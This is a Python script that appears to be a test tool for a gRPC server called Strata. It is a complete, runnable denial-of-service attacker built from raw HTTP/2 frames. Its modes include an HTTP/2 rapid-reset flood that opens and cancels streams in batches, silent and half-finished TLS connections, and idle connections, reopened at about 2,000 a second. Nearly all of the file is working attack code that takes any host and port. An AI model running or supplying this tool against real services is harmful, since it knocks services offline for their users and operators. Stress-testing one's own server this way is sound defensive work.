"""An attacker without credentials: raw sockets, and HTTP/2 frames made by hand.

    python attacker.py reset --host 127.0.0.1 --port 50051 --connections 12 --seconds 15 [--tls]

The attacker reopens each connection immediately after it ends. Before it exits it prints its counts as JSON. It
shares no code with Strata and needs only the standard library.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import resource
import ssl
import struct
import time
from collections import Counter

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
ACK, END_STREAM, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
CANCEL = 8
RECORD = b"\x16\x03\x01\x02\x00"
"""The header of a TLS record of 512 bytes; the attacker never sends those bytes."""
BATCH = 200
"""Streams that `reset` opens and resets before it yields to the event loop."""
TICKET_S = 0.02
"""Wait after a refused connection."""
RATE = 2_000
"""Connections a second. A server that closes the oldest of 384 silent connections leaves each connection 0.19 s for
its handshake at this rate. At 7,400 a second, the rate of a quick machine, a legitimate client at the attacker's
address may be closed in its handshake."""

done: Counter[str] = Counter()


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """Return an HTTP/2 frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def literal(index: int, value: bytes) -> bytes:
    """Return a header whose name is in the static table, not indexed (RFC 7541, 6.2.2), for up to 126 bytes."""
    name = bytes([index]) if index < 15 else bytes([15, index - 15])
    return name + bytes([len(value)]) + value


def named(name: bytes, value: bytes) -> bytes:
    """Return a header with a literal name, not indexed."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path: bytes, *more: bytes) -> bytes:
    """Return the header block of a gRPC call."""
    return b"".join(
        (
            b"\x83\x86",  # :method POST, :scheme http
            literal(4, path),
            literal(1, b"localhost"),
            literal(31, b"application/grpc"),
            named(b"te", b"trailers"),
            *more,
        )
    )


def settings(**values: int) -> bytes:
    """Return a SETTINGS frame with these settings, such as `initial_window_size=0`."""
    numbers = {"initial_window_size": INITIAL_WINDOW_SIZE}
    return frame(
        SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items())
    )


Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def polite(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Answer SETTINGS and PING and discard every other frame, until the connection ends."""
    while True:
        head = await reader.readexactly(9)
        size, kind, flags = int.from_bytes(head[:3]), head[3], head[4]
        body = await reader.readexactly(size)
        if not flags & ACK and kind in {SETTINGS, PING}:
            writer.write(frame(kind, ACK, 0, body if kind == PING else b""))
            done["pings"] += kind == PING


async def until_closed(reader: asyncio.StreamReader) -> None:
    while await reader.read(65_536):
        pass


async def silent(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
    """Connect and send nothing."""
    await until_closed(reader)


async def record(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Begin a TLS handshake and never finish it."""
    writer.write(RECORD)
    await until_closed(reader)


async def preface(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send the HTTP/2 preface and nothing after it."""
    writer.write(PREFACE)
    await until_closed(reader)


async def idle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Keep a complete, healthy HTTP/2 connection without any request."""
    writer.write(PREFACE + settings())
    await polite(reader, writer)


async def reset(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Open streams and reset them as fast as the server reads."""
    block = request(b"/strata.v1.Worlds/ListJobs")
    begin = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS])
    end = struct.pack(">I", 4)[1:] + bytes([RST_STREAM, 0])
    why = struct.pack(">I", CANCEL)
    writer.write(PREFACE + settings())
    answering = asyncio.create_task(polite(reader, writer))
    try:
        for first in range(1, 1 << 30, 2 * BATCH):
            if answering.done():
                return
            numbers = [struct.pack(">I", stream) for stream in range(first, first + 2 * BATCH, 2)]
            writer.write(b"".join(begin + n + block + end + n + why for n in numbers))
            done["resets"] += BATCH
            await writer.drain()
            await asyncio.sleep(0)
    finally:
        answering.cancel()
        with contextlib.suppress(asyncio.CancelledError, OSError, asyncio.IncompleteReadError):
            await answering


ATTACKS = {attack.__name__: attack for attack in (silent, record, preface, idle, reset)}


turns = [0.0]


def next_turn() -> float:
    """Return the seconds to wait before the next connection; connections are 1 / RATE apart."""
    now = time.monotonic()
    turns[0] = max(turns[0], now) + 1 / RATE
    return turns[0] - now


async def connection(args: argparse.Namespace, tls: ssl.SSLContext | None) -> None:
    """Attack on one connection after another, until cancelled."""
    while True:
        await asyncio.sleep(next_turn())
        try:
            reader, writer = await asyncio.open_connection(args.host, args.port, ssl=tls)
        except OSError:
            done["refused"] += 1
            await asyncio.sleep(TICKET_S)
            continue
        done["connections"] += 1
        done["open"] += 1
        done["most_open"] = max(done["most_open"], done["open"])
        try:
            await ATTACKS[args.attack](reader, writer)
        except (OSError, asyncio.IncompleteReadError):
            done["cut"] += 1
        finally:
            done["open"] -= 1
            writer.transport.abort()
        await asyncio.sleep(TICKET_S)


async def attack(args: argparse.Namespace) -> None:
    tls = None
    if args.tls:
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
        tls.set_alpn_protocols(["h2"])
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(args.seconds), asyncio.TaskGroup() as tasks:
            for _ in range(args.connections):
                tasks.create_task(connection(args, tls))


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=15.0)
    parser.add_argument("--tls", action="store_true")
    args = parser.parse_args()
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(5)  # a real attacker has its own machine and takes no CPU from the replica
    begun = time.monotonic()
    asyncio.run(attack(args))
    print(json.dumps({"event": "attacked", "s": time.monotonic() - begun, **done}), flush=True)  # noqa: T201


if __name__ == "__main__":
    main()
